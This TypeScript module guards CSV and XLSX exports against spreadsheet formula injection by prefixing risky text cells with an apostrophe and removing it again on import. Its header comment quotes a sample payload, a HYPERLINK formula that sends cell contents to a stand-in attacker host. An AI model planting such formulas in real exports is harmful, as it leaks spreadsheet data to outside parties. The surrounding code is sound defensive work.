/**
 * Spreadsheet formula injection (OWASP "CSV injection"): a text cell that begins with `=`, `+`,
 * `-` or `@` (or a tab or carriage return, which some programs skip before reading a formula) runs
 * as a formula when an exported file is opened in Excel, LibreOffice or Google Sheets, e.g. an item
 * named `=HYPERLINK("http://evil.example/?"&A1, "Click")`. Every export writes such text with a
 * leading apostrophe, which spreadsheets show as plain text; imports take it off again, so a name
 * like "-Special" or "=A1" goes out and comes back unchanged.
 *
 * Only text is touched: a number (a negative price) is written as a number and stays one.
 */

/** Text that needs the apostrophe: a formula character, after any apostrophes already there. */
const NEEDS_PREFIX = /^'*[=+\-@\t\r]/;
/** Text as an export writes it: one added apostrophe before the above. */
const PREFIXED = /^'+[=+\-@\t\r]/;

/** Text for a cell of an exported CSV or XLSX file, safe to open in a spreadsheet. */
export function neutraliseFormula(text: string): string {
  return NEEDS_PREFIX.test(text) ? `'${text}` : text;
}

/**
 * A cell of an imported file as it was before export (the apostrophe neutraliseFormula added is
 * taken off). Exact for every text: restoreFormula(neutraliseFormula(t)) === t; a file written by
 * hand with '=A1 (how a spreadsheet user types text that starts with =) imports as =A1.
 */
export function restoreFormula(text: string): string {
  return PREFIXED.test(text) ? text.slice(1) : text;
}

/** A row for an export with every text cell neutralised; numbers and empty cells as they are. */
export function safeCells<T extends readonly unknown[]>(row: T): T {
  return row.map((cell) => (typeof cell === 'string' ? neutraliseFormula(cell) : cell)) as unknown as T;
}
